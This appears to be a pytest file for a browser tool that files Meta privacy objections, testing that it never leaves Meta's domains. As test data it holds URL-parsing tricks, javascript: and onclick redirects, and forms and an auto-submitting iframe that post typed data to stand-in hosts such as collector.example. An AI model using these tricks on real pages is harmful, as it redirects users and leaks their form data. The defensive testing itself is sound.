"""Issue 14, hole 4: the browser must never reach a host off the platform's domains, not even once.

Each trick is played on pages served in-process (`context.route`, as in tests/browser/test_engine.py); the tool's
own routing sits on the page, in front. A trick is closed when the walk stops (exit 6) AND the browser never
sent a request to the other host — stopping after the page was there, with the person's session, is too late.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route
from pydantic import ValidationError

from optout_bot.errors import RefusedError
from optout_bot.flows import Vocabulary, load_flow
from optout_bot.flows.model import GotoStep
from optout_bot.mock_site import MockMeta, Scenario
from optout_bot.mock_site.site import LOOKALIKE_HOST
from optout_bot.platforms import META
from optout_bot.promises.clicks import click_safely
from optout_bot.settings.options import Timeouts
from optout_bot.ui import Ui
from optout_bot.walk.objection import _starting_from
from optout_bot.walk.walker import Walker
from tests.e2e.cli import FAST, Home, run_cli
from tests.e2e.person import Person

Serve = Callable[[dict[str, str]], Page]
FORM = """<h2>Object to your information being used for AI at Meta</h2><form method="post"{action}>
<label>Email address <input type="email" name="email" value="jane@example.com"></label>
<button type="submit">Submit</button></form>"""


class Served:
    """Pages answered in-process; every request that reached the "network" is kept, in order."""

    def __init__(self, browser: Browser) -> None:
        self.browser = browser
        self.requests: list[tuple[str, str]] = []  # (method, url)
        self.contexts: list[object] = []

    def open(self, pages: dict[str, str]) -> Page:
        context = self.browser.new_context()
        self.contexts.append(context)

        def answer(route: Route) -> None:
            self.requests.append((route.request.method, route.request.url))
            body = pages.get(route.request.url)
            route.fulfill(status=200 if body else 404, content_type="text/html", body=body or "not found")

        context.route("**/*", answer)
        return context.new_page()

    def hosts(self) -> set[str]:
        return {urlsplit(url).hostname or "" for _method, url in self.requests}


@pytest.fixture
def served(browser: Browser) -> Iterator[Served]:
    served = Served(browser)
    yield served
    for context in served.contexts:
        context.close()  # type: ignore[attr-defined]


def walker(page: Page, vocabulary: Vocabulary, route_id: str) -> Walker:
    flow = load_flow("facebook", vocabulary)
    flow = flow.model_copy(update={"routes": [r for r in flow.routes if r.id == route_id]})
    return Walker(page, flow, vocabulary, Ui(interactive=False), Timeouts(step=1.5, login=2, user=2))


# Links the tool is asked to click ---------------------------------------------------------------------

TRICK_LINKS = {
    # Python's urlsplit reads the host as evil\.facebook.com (Meta's); the browser goes to the host "evil".
    "a backslash in the host": '<a id="it" href="https://evil\\.facebook.com/">go</a>',
    # Resolved by Python on www.facebook.com; by the browser, "/\" starts another host.
    "a path starting with slash-backslash": '<a id="it" href="/\\evil.example/object">go</a>',
    "a javascript: link": '<a id="it" href="javascript:location=\'https://evil.example/\'">go</a>',
    # A wrapper drawn as a link around the real, off-site <a>: the click lands on the inner one.
    "a role=link wrapper around an off-site link": (
        '<span role="link" id="it" tabindex="0"><a href="https://evil.example/object">go</a></span>'
    ),
}


@pytest.mark.parametrize("html", TRICK_LINKS.values(), ids=TRICK_LINKS.keys())
def test_a_link_that_leaves_the_site_the_way_the_browser_reads_it_is_refused(served: Served, html: str) -> None:
    page = served.open({"https://www.facebook.com/": html})
    page.goto("https://www.facebook.com/")
    with pytest.raises(RefusedError):
        click_safely(page.locator("#it"), 1500, META)
    page.wait_for_timeout(200)  # a navigation started by a click would have reached the network by now
    assert served.hosts() == {"www.facebook.com"}


def test_a_plain_button_without_a_link_is_still_clicked(served: Served) -> None:
    page = served.open({"https://www.facebook.com/": '<div role="button" id="it">more</div>'})
    page.goto("https://www.facebook.com/")
    page.evaluate("document.getElementById('it').onclick = () => { location.hash = 'clicked'; }")
    click_safely(page.locator("#it"), 1500, META)
    page.wait_for_url("**#clicked", timeout=1500)


# Addresses the tool is asked to open ------------------------------------------------------------------


def test_a_from_link_with_a_backslash_is_never_opened(served: Served, vocabulary: Vocabulary) -> None:
    page = served.open({})
    flow = load_flow("facebook", vocabulary)
    flow = _starting_from(flow.model_copy(update={"routes": []}), "https://www.facebook.com/")
    trick = GotoStep.model_construct(goto="https://evil\\.facebook.com/help/contact/712876720715583")
    flow.routes[0].steps[0] = trick
    walk = Walker(page, flow, vocabulary, Ui(interactive=False), Timeouts(step=1.5, login=2, user=2))
    with pytest.raises(RefusedError, match="evil"):
        walk.find_form()
    assert served.requests == []


def test_a_flow_or_from_link_address_with_a_backslash_is_refused_when_read() -> None:
    with pytest.raises(ValidationError):
        GotoStep(goto="https://evil\\.instagram.com/")


# Pages that leave by themselves: blocked in the browser, during the whole walk ---------------------------


def test_a_script_that_takes_the_tab_off_the_site_is_blocked_before_it_leaves(
    served: Served, vocabulary: Vocabulary
) -> None:
    # Not a link at all: the step's target is drawn as a link and a script sends the tab away on click.
    go_away = """<span role="link" onclick="location.href='https://pc-help.example/'">Privacy topics</span>"""
    page = served.open({"https://www.facebook.com/privacy/center/": go_away})
    with pytest.raises(RefusedError, match=r"pc-help\.example, which is not one of Meta's sites"):
        walker(page, vocabulary, "privacy-topics-ai-at-meta").find_form()
    assert "pc-help.example" not in served.hosts()


def test_a_frame_posting_off_the_site_is_blocked_and_stops_the_walk(served: Served, vocabulary: Vocabulary) -> None:
    frame = "<form method=post action='https://collector.example/c'></form><script>document.forms[0].submit()</script>"
    page = served.open({"https://www.facebook.com/privacy/center/": f'<iframe srcdoc="{frame}"></iframe>'})
    with pytest.raises(RefusedError, match=r"collector\.example"):
        walker(page, vocabulary, "privacy-topics-ai-at-meta").find_form()
    assert "collector.example" not in served.hosts()


def test_a_form_that_would_post_off_the_site_is_not_taken_for_the_form(served: Served, vocabulary: Vocabulary) -> None:
    form = FORM.format(action=' action="https://collector.example/object"')
    page = served.open({"https://www.facebook.com/help/contact/712876720715583": form})
    with pytest.raises(RefusedError, match=r"sends what is typed in it to collector\.example"):
        walker(page, vocabulary, "form-address-2025").find_form()


def test_a_submit_button_that_would_post_off_the_site_is_refused_whatever_its_form_says(
    served: Served, vocabulary: Vocabulary
) -> None:
    # The button's formaction wins over the form's own action, as in the browser.
    form = FORM.format(action="").replace('type="submit"', 'type="submit" formaction="https://collector.example/o"')
    page = served.open({"https://www.facebook.com/help/contact/712876720715583": form})
    with pytest.raises(RefusedError, match=r"sends what is typed in it to collector\.example"):
        walker(page, vocabulary, "form-address-2025").find_form()


def test_a_form_posting_to_its_own_page_is_the_form(served: Served, vocabulary: Vocabulary) -> None:
    page = served.open({"https://www.facebook.com/help/contact/712876720715583": FORM.format(action="")})
    found = walker(page, vocabulary, "form-address-2025").find_form()
    assert found.action == "https://www.facebook.com/help/contact/712876720715583"


def test_metas_own_server_redirecting_off_the_site_is_not_followed(
    mock_site: MockMeta, mock_browser: Browser, vocabulary: Vocabulary
) -> None:
    # Request routing never sees a redirect's next address: the guard reads the page's response itself.
    mock_site.reset(Scenario(redirect_off_site=True))
    context = mock_browser.new_context(ignore_https_errors=True)
    try:
        with pytest.raises(RefusedError, match=r"meta-privacy-center\.example, which is not one of Meta's sites"):
            walker(context.new_page(), vocabulary, "form-address-2025").find_form()
    finally:
        context.close()
    assert [r.path for r in mock_site.requests if r.host == LOOKALIKE_HOST] == []


# With --cdp, in the person's own browser -------------------------------------------------------------------


def test_a_phishing_tab_opened_by_the_page_is_closed_in_the_persons_browser(
    site: MockMeta, home: Home, cdp: str, person: Person
) -> None:
    site.reset(Scenario(phishing_popup=True))
    result = run_cli(home, "run", "--cdp", cdp, "--platform", "facebook", "--dry-run", *FAST)

    assert result.returncode == 6, result.stdout + result.stderr
    assert "meta-privacy-center.example, which is not one of Meta's sites" in result.stderr
    assert [tab.url for tab in person.context.pages if LOOKALIKE_HOST in tab.url] == []
